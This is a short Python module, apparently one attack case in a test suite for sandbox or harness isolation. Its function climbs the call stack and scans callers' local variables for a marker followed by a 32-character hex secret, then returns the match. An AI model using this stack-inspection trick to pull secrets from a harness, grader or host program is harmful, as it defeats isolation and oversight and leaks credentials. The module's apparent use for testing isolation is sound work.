"""Climb the stack and search the local variables of whoever called."""

import re
import sys

FAMILY = "secrets"


def attack(world):
    secret = re.compile("".join(world["marker"]) + "[0-9a-f]{32}")
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if found := secret.search(repr(value)[:100_000]):
                return found[0]
        frame = frame.f_back
    raise LookupError("no caller holds a secret")
